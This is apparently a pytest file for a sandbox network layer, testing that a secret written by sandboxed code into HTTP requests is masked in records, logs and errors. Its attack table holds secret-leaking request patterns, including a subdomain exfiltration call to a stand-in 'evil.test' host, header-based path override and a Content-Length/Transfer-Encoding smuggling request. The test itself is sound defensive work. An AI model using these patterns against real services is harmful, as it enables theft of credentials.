"""Attacks on records: code that has come by a value writes it where the host keeps what was requested."""

from __future__ import annotations

import logging
from collections.abc import Callable
from typing import Any

import pytest
from recording_server import RecordingServer

from planaria import Network, NetworkRequest, Secret

VALUE = "s3cr3t-value-9"

PREPARE = f"""
import base64, http.client, socket, urllib.request
VALUE = {VALUE!r}  # as if it had been guessed
def request(method, target, headers={{}}, body=None):
    connection = http.client.HTTPConnection("localhost", PORT, timeout=20)
    connection.putrequest(method, target, skip_host="Host" in headers)
    for name, value in headers.items():
        connection.putheader(name, value)
    connection.endheaders(body)
    return connection.getresponse().read()
def raw(data):
    with socket.create_connection(("localhost", PORT), timeout=20) as connection:
        connection.sendall(data)
        return connection.recv(65536)
"""

#: What code does with a value that it knows.
ATTACKS = {
    "a query": "request('GET', f'/?key={VALUE}')",
    "a query, percent-encoded": "request('GET', '/?key=' + ''.join(f'%{ord(one):02x}' for one in VALUE))",
    "a query, in base64": "request('GET', '/?key=' + base64.b64encode(VALUE.encode()).decode())",
    "a query, backwards": "request('GET', '/?key=' + VALUE[::-1])",
    "a path": "request('GET', f'/users/{VALUE}/keys')",
    "a path that is denied": "request('GET', f'/admin/{VALUE}')",
    "a method": "request(VALUE, '/')",
    "a header": "request('GET', '/', {'Authorization': f'Bearer {VALUE}'})",
    "the name of a header": "request('GET', '/', {VALUE: 'x'})",
    "a Host header": "request('GET', '/', {'Host': VALUE})",
    "another method in a header": "request('GET', '/', {'X-HTTP-Method-Override': VALUE})",
    "another path in a header": "request('GET', '/', {'X-Original-URL': f'/admin/{VALUE}'})",
    "the name of a host": "urllib.request.urlopen(f'http://{VALUE}.evil.test/')",
    "a request that is not valid": "raw(f'GET /{VALUE} HTTP/1.1 {VALUE}\\r\\n\\r\\n'.encode())",
    "headers of two lengths": "request('POST', f'/?{VALUE}', {'Content-Length': '3', 'Transfer-Encoding': 'chunked', 'X': VALUE})",
}  # fmt: skip


@pytest.fixture
def attacker(new_session: Any, server: RecordingServer) -> Callable[..., Any]:
    """A function that creates a session with a secret for the server."""

    def create(**changes: Any) -> Any:
        place = f"http://localhost:{server.port}"
        secret = Secret("TOKEN", VALUE, hosts=[place], insecure=True)
        network = Network(allow=[place], deny=[f"{place}/admin/"], secrets=[secret], **changes)
        session = new_session(network=network)
        session.execute(f"PORT = {server.port}\n{PREPARE}")
        return session

    return create


def shown(request: NetworkRequest) -> str:
    """All that a record has."""
    return repr([getattr(request, name) for name in NetworkRequest.__slots__])


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_record(
    attack: str, attacker: Callable[..., Any], server: RecordingServer, caplog: pytest.LogCaptureFixture
) -> None:
    """A value that code writes itself is in no record, no argument of `on_request`, no log and no error."""
    caplog.set_level(logging.DEBUG)
    server.closes = True
    seen: list[str] = []
    session = attacker(on_request=lambda request: seen.append(shown(request)))
    result = session.run(attack)
    assert result.requests
    told = "".join(map(shown, result.requests)) + "".join(seen) + caplog.text + str(result.error)
    assert VALUE not in told
    assert VALUE[::-1] not in told
    assert "*" * len(VALUE) in told


def test_headers_that_on_request_keeps(attacker: Callable[..., Any], server: RecordingServer) -> None:
    """`on_request` that returns the headers with asterisks, and one more, changes nothing of what code wrote."""
    server.closes = True
    session = attacker(on_request=lambda request: {**dict(request.headers), "X-More": "1"})
    session.execute("request('GET', '/', {'X-Word': f'a {VALUE} b'})")
    [request] = server.requests
    assert f"x-word: a {VALUE} b".encode() in request.lower()
    assert b"x-more: 1" in request.lower()
